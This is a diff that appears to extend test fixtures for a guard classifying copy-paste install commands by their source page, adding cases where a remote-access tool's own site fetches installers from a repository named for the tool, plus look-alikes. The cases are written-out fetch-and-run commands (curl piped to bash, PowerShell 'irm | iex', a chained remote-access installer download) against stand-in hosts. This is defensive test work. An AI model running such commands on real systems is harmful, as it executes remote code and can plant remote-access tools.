@@ -37,6 +37,12 @@ Principles:
   files may carry its own name. Look-alikes, still blocked: another tool's name in the file's
   name, in a switch, in a second download; a tool's script on another repository's page; the
   repository's issues; a fake check's tail; the Run box.
+- `remote-access-vendor-repository`: a remote-access tool's own site (its domain named for the
+  tool) fetching from the forge repository named for the tool under another account
+  (docs.tacticalrmm.example and raw.githubusercontent.com/<company>/tacticalrmm/...): a warning
+  too, never a block (an account named for the tool clears it, make_b12benign). Look-alikes: a repository that only starts
+  with the name or is named otherwise, a support site, a help desk or a blog, a second download
+  naming another tool, plain HTTP, a fake check's tail, the Run box, no page.
 - `defanged-prose-report`: sentences that quote a lure with every address defanged
   (hxxps://bad[.]example), without backticks, pasted where nothing runs or where the guard
   does not know: the report it is, as with backticks. Look-alikes: the same with a live
@@ -218,6 +224,38 @@ RAT_OWN_LOOKALIKES = [
     (None, "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash", "flagged"),
 ]  # fmt: skip
 
+# -- a remote-access tool's own site and the repository named for the tool --------------------
+
+RAT_VENDOR = [
+    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh"),
+    ("https://docs.tacticalrmm.example/install_server/", "curl -fsSL https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh -o install.sh && bash install.sh"),
+    ("https://docs.tacticalrmm.example/install_agent/", "wget https://github.com/amberline/tacticalrmm/releases/download/v0.20.1/install.sh && sudo bash install.sh"),
+    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash"),
+    ("https://meshagent.example/download", "wget -qO- https://raw.githubusercontent.com/quillmere/meshagent/main/server/setup.sh | bash"),
+    ("https://rustdesk.example/docs/en/self-host/", "wget https://raw.githubusercontent.com/fenwick-hq/rustdesk/main/install.sh\nchmod +x install.sh\n./install.sh"),
+    ("https://rustdesk.example/docs/en/client/linux/", "wget https://github.com/fenwick-hq/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb"),
+    ("https://dwagent.example/en/download", "curl -fsSLO https://github.com/tarnwick/dwagent/releases/download/v2/dwagent.sh && sudo sh dwagent.sh"),
+    ("https://docs.tacticalrmm.example/", "bash <(curl -fsSL https://raw.githubusercontent.com/amberline/tacticalrmm/develop/install.sh)"),
+    ("https://www.rustdesk.example/download", "curl -LO https://github.com/fenwick-hq/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-0.x86_64.rpm\nsudo dnf install ./rustdesk-1.3.2-0.x86_64.rpm"),
+]  # fmt: skip
+RAT_VENDOR_LOOKALIKES = [
+    # a repository that only starts with the tool's name, or is named otherwise
+    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/someone/tacticalrmm-fix/master/install.sh\nchmod +x install.sh\n./install.sh", "malicious"),
+    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/someone/rmm-tools/master/tacticalrmm.sh\nbash tacticalrmm.sh", "flagged"),
+    # a support site that is not the tool's, a help desk, a page that only borrows the name
+    ("https://tacticalrmm-support.example/install", "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh", "malicious"),
+    ("https://helpdesk.umbra-stage.test/remote", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash", "malicious"),
+    ("https://blog.brightfield.test/meshagent-review", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash", "malicious"),
+    # another tool from the tool's own site's repository, or a second download elsewhere
+    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash && curl -fsSLo a.deb https://cdn.umbra-stage.test/anydesk.deb", "malicious"),
+    # plain HTTP, a fake check's tail, the Run box
+    ("https://www.meshagent.example/docs/linux", "wget http://github.com/quillmere/meshagent/releases/download/v1/meshagent.deb && sudo dpkg -i meshagent.deb", "flagged"),
+    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash" + CHECK_TAIL, "malicious"),
+    ("https://www.meshagent.example/docs/windows", "powershell -c \"irm https://raw.githubusercontent.com/quillmere/meshagent/main/install.ps1 | iex\"", "malicious"),
+    # no page
+    (None, "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh", "flagged"),
+]  # fmt: skip
+
 # -- sentences that quote a lure with its address defanged, without backticks ------------------
 
 BLOG = "https://blog.soc-notes.example/2026/11/clipboard-wave"
@@ -295,6 +333,7 @@ def forge_pages(book: Book) -> None:
         ("repository-mirrored-path", MIRRORED, MIRRORED_LOOKALIKES),
         ("remote-access-own-repository", RAT_OWN, RAT_OWN_LOOKALIKES),
         ("organisation-product-host", ORG_PRODUCT, ORG_PRODUCT_LOOKALIKES),
+        ("remote-access-vendor-repository", RAT_VENDOR, RAT_VENDOR_LOOKALIKES),
     ]
     for technique, cases, lookalikes in groups:
         # a remote-access tool's own repository is warned about, never blocked nor cleared
